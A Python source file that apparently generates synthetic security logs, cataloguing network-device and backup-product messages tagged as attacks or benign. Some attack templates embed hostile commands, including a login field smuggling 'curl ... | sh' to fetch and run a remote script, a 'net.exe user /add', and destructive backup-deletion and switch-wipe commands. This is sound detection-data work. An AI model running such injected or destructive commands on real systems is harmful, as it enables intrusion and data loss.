"""Messages of switches and wireless controllers (Aruba, HPE, Extreme, Ruckus, Huawei) and of backup products."""

from generator.families.network.product_story import catalogue

catalogue("network/product-switches-wireless", ("|{msg}", "=<134>{time} {lan2} {msg}", "={plain} {host} {msg}"), r"""
AP@T1557 aruba authmgr[{n}]: <126037> <WARN> |ap {host}| AP {mac} is spoofing valid BSSID {mac2} SSID {ssid}, <<evil twin|ap-spoofing>> detected on channel {n}
AP@T1557 aruba wms[{n}]: <404400> <WARN> AM: Rogue AP {mac} SSID {ssid} on wire, matched by eth gateway mac, {n} clients
DO@T1499 aruba wms[{n}]: <126086> <WARN> |ids| <<Deauth broadcast|Disconnect station attack|CTS rate anomaly|Omerta attack>> detected: frames {big} from {mac}, channel 6
BF# aruba aaa: <124003> Authentication result=Authentication failed(1), method=Management, server=Internal, user={adm} ip {wan}
BF# hpe: 00419 auth: Invalid user name/password on <<SSH|WEB UI|TELNET>> session User '{adm}' is trying to login from {any}
BF hpe: 00421 auth: User '{adm}' locked out after {n} consecutive failed logins from {any}
BF#@T1110.001,T1602.001 hpe: 00180 snmp: Security access violation from {wan} for the community name or user name : {word}
AP@T1557.002 hpe: 00943 arp-protect: Deny ARP reply {macdash} claims gateway {lan} on port {n}, {many} packets
AP@T1557 hpe: 00947 dhcp-snoop: Server {lan} packet received on untrusted port {n}, {many} offers dropped
DO@T1499 hpe: 00875 FFI: mac flooding on port {n}: {big} new addresses per second, table full
BF# extreme: <Warn:AAA.authFail> Login failed for user {adm} through <<ssh|telnet|web>> ({wan})
DO extreme: <Crit:DOSProt.attack> Slot-1: Notify-Threshold reached on port 1:{n}, dst {lan}, {big} packets per second, ACL installed against {wan}
LC+@T1485 extreme: <Info:cli.logLocalCmd> {wan} {adm}: unconfigure switch all
LC extreme: <Info:cli.logRemoteCmd> {wan} (ssh) {word}: clear log messages memory-buffer
PT+ extreme: <Info:cli.logRemoteCmd> {wan} (ssh) {adm}: create account admin {word}
AP@T1557 ruckus: Rogue AP[{mac}] spoofing SSID[{ssid}] detected by AP[{host}], <<same-network|ssid-spoofing|mac-spoofing>>, same-network
RX ruckus: GET /forms/doLogin?login_username=admin&password=password$(curl {wan}/{word}.sh|sh) from {wan2}
BF ruckus: Admin[{adm}] login failed {n} times from {wan}; account temporarily locked
AP@T1557.002 huawei: %%01SECE/4/ARPATTACK(l)[{n}]: Gateway ARP attack occurred. AttackSource={macdot}, Interface=GE0/0/{n}, IP={lan}
DO huawei: %%01SECE/4/TCSYNCFLOOD(l)[{n}]: SYN flood from {wan} to {wan2}, {big} pps
BF huawei: %%01AAA/4/LOCKUSER(l): User {adm} was locked after {n} wrong passwords, access SSH {any}
DE huawei: %%01SHELL/5/CMDRECORD(s): Task=VT0, Ip={wan}, User={word}, Command="undo info-center enable"
PT+ huawei: %%01SHELL/5/CMDRECORD(s): Task=VT0, Ip={wan}, User={adm}, Command="local-user {word} privilege level 15"
""", r"""
AE aruba authmgr[{n}]: <522008> <NOTI> User Authentication Successful: username={user} MAC={mac} IP={lan} role=employee SSID={ssid}
MP. aruba authmgr[{n}]: <522275> <ERRS> User Authentication failed. username={user} userip={lan} usermac={mac} authmethod=802.1x
AE aruba stm[{n}]: <501105> <NOTI> |AP {host}| Deauth from sta: {mac}: AP {lan} Reason STA has left and is deauthenticated
AE aruba stm[{n}]: <501080> <NOTI> Deauth to sta: {mac}: Ageout AP {lan} Reason Sapcp Ageout (internal ageout)
SY aruba sapd[{n}]: <311013> <ERRS> |AP {host}| rebooting after power loss: no reply from controller
SY aruba wms[{n}]: <126005> <WARN> Interfering AP {mac} SSID FRITZ!Box {n} detected channel {n}
SY aruba stm: <304045> AP {host} exceeded noise floor, channel changed from 36 to 52 (radar detected)
LO aruba aaa: <125022> Authentication Succeeded for User {adm}, Logged in from {any} port {port}, Connecting to {lan2} connection type SSH
MP. aruba aaa: <124003> Authentication result=Authentication failed(1), method=Management, server=Internal, user={adm} ip {any}
SY hpe: 00077 ports: port {n} is now off-line
SY hpe: 00076 ports: port {n} is now on-line
SY hpe: 00331 FFI: port {n}-Excessive CRC/alignment errors. See help.
SY hpe: 00332 FFI: port {n}-High collision or drop rate. See help.
SY hpe: 00565 poe: Port {n} PD Removed / 00561 denied power, insufficient budget
SY hpe: 02678 loop-protect: port {n} disabled - loop detected.
LO hpe: 00179 mgr: SME SSH from {lan} - MANAGER Mode
MP. hpe: 00419 auth: Invalid user name/password on SSH session User '{adm}' is trying to login from {lan}
MO. hpe: 00180 snmp: Security access violation from {lan} for the community name or user name : public
NS. hpe: 00947 dhcp-snoop: Server {lan} packet received on untrusted port {n} dropped (relay of new trunk, port set trusted by {adm})
NS hpe: 00413 SNTP: Updated time by {few} seconds from server at {lan}
NS hpe: 00828 lldp: PVID mismatch on port {n}(VID {n})with peer device port {n2}(VID {n2})
AD hpe: 00617 mgr: User '{adm}': Startup configuration changed by SSH. New seq. number {many}
SY extreme: <Info:vlan.msgs.portLinkStateDown> Port 1:{n} link down
SY extreme: <Warn:HAL.Optics> port 1:{n} optic temperature {pct} C, unsupported vendor
LO extreme: <Info:AAA.authPass> Login passed for user {adm} through ssh ({lan})
MP. extreme: <Warn:AAA.authFail> Login failed for user {adm} through ssh ({any})
AD extreme: <Info:cli.logRemoteCmd> {lan} (ssh) {adm}: <<save configuration primary|configure vlan Guest add ports 1:{n} tagged|show log|clear counters|disable port 1:{n}>>
SY extreme: <Erro:Kern.Error> Power supply {few} failed
AE ruckus: User[{mac}] <<joins|leaves|fails authentication too many times in a row when joining>> WLAN[{ssid}] from AP[{host}]
SY ruckus: AP[{host}] lost heartbeat; AP reboots, reason [power cycle]
SY ruckus: Rogue AP[{mac}] with SSID[DIRECT-{n}-HP OfficeJet] detected by AP[{host}]
UP ruckus: AP[{host}] upgraded to firmware {ver}
SY huawei: %%01IFNET/4/LINK_STATE(l)[{n}]: The line protocol IP on the interface GE0/0/{n} has entered the DOWN state.
SY huawei: %%01MSTP/4/LOOPBACKDETECTED: port GE0/0/{n} blocked, loop
LO huawei: %%01SSH/5/SSH_USER_LOGIN(s): user {adm} from {any} logged in
AD huawei: %%01SHELL/5/CMDRECORD(s): Task=VT0, Ip={lan}, User={adm}, Command="<<display interface brief|save|vlan batch {n}|undo shutdown>>"
SY huawei: %%01SECE/4/ARPMISS(l): ARP miss packets exceed limit of {n}, source {lan} (monitoring sweep of {adm})
""")

catalogue("network/product-backup", ("|{msg}", "={plain} {msg}", "={eu} {msg}"), r"""
RB Veeam MP: Backup repository {ds}: {many} restore points deleted from disk by {company}\{user}
RW Veeam ONE: Alarm "Possible ransomware activity" triggered on {vm}: high CPU, write rate {many} MB/s, datastore {ds}
RW Veeam: malware detection: {vm} marked infected: {many} files with extension .{crypt}, ransom note found in restore point
RW Veeam: inline entropy analysis: {vm} volume D: {pct}% of blocks encrypted since last restore point, onion links found
RX Veeam: Veeam.Backup.MountService (port 9401) unauthenticated CredentialsDbScopeGetAllCreds from {any}
RX Veeam: BinaryFormatter deserialisation in port 8000 from {any}: net.exe user {word} /add by Veeam.Backup.MountService.exe
BF# Veeam: Console login failed for user {company}\{adm} from {any}: invalid credentials
RW Acronis Active Protection: suspicious process {prog} tries to encrypt {many} files on {pc}, action <<notify only|stopped>>
DE Acronis Active Protection: self-protection: {prog} tried to modify MBR and stop acronis_mms
MW Acronis: antimalware scan of backup: {mal} in {odd}, backup of {pc}
BF# Acronis: Management server: failed sign-in of {adm} from {any}
BF# Bacula bacula-dir: UA Hello from Console {word}@{wan} is invalid, authorization failed
RB Windows Server Backup: wbadmin delete catalog -quiet and delete systemstatebackup by {prog} on {pc}
""", r"""
BA Veeam MP: Backup job '{vm} daily' finished with <<Success|Warning|Failed>>. Duration {n} min, {many} GB
BA Veeam: Processing {vm} Error: Failed to create VM snapshot. VSSControl: -2147467259 Backup job failed. Cannot create a shadow copy of the volumes
BA Veeam: retention: removed {few} restore points of {vm} from {ds} per policy {n} days
BA Veeam: Insufficient free space in repository {ds}, {pct} GB left
BA Veeam: SureBackup: {vm} heartbeat test passed, application test failed (script exit {few})
BA Veeam: Tape library: cartridge {HEX} needs cleaning
BA Veeam: file level restore of {few} items for {user} to original location by {adm}
BA Veeam ONE: Alarm "Backup copy RPO" changed to error for {vm}: {n} days without copy
SC Veeam: malware detection scan of restore point {vm}: clean, YARA 0 matches
AE Veeam: {vm} marked suspicious: {many} files renamed by software deployment; reviewed and marked clean by {adm}
LO Veeam: Console login of {company}\{adm} from {pc} succeeded
MP. Veeam: Console login failed for user {company}\{adm} from {lan}: invalid credentials
AD Veeam: Job {word} modified by {adm}; schedule now 22:00
UP Veeam: hotfix {ver} installed, fixes critical vulnerability CVE-2023-{big}
SY Veeam: license: {few} instances over limit, grace period {n} days
BA Acronis: plan 'Entire machine' on {pc} <<completed|failed: cannot connect to vault|completed with warnings>>
BA Acronis: cleanup removed {few} old archives by retention rules
AE Acronis Active Protection: process {app} allowed by administrator
SC Acronis: antimalware scan of backup of {pc}: no threats
SY Acronis: agent on {pc} is offline for {n} days
BA Bacula bacula-sd: Job {word}.{date} is waiting. Cannot find any appendable volumes.
BA Bacula bacula-dir: Termination: Backup OK -- with warnings; FD Files Written: {big}
BA Bacula bacula-dir: Fatal error: bsockcore.c Unable to connect to Client: {host} on {lan}:9102. ERR=Connection timed out
BA Bacula bacula-dir: Recycled volume Full-00{n}; purged {few} jobs by retention
MP. Bacula bacula-dir: UA Hello from Console {user}@{any} is invalid, director name mismatch
BA Backup Exec: Job '{share} full' failed: 0xe00084af The directory or file was not found
BA Backup Exec: expired backup sets deleted by data lifecycle management: {n}
BA Windows Server Backup: The backup operation has finished successfully.
BA Windows Server Backup: wbadmin delete backup -keepVersions:{n} by scheduled task on {pc}
BA restic: {n} snapshots have been removed by forget --keep-daily 7, prune ok
ER restic: unable to create lock in backend: repository is already locked by PID {big} on {host}
BA borg: Archive {host}-{date}: {many} GB original size, {few} GB deduplicated
BA Nakivo: repository {ds} self-healing finished; {few} recovery points deleted by retention
BA rsnapshot: /usr/bin/rsync returned {n} while processing {host}:/etc/
""")
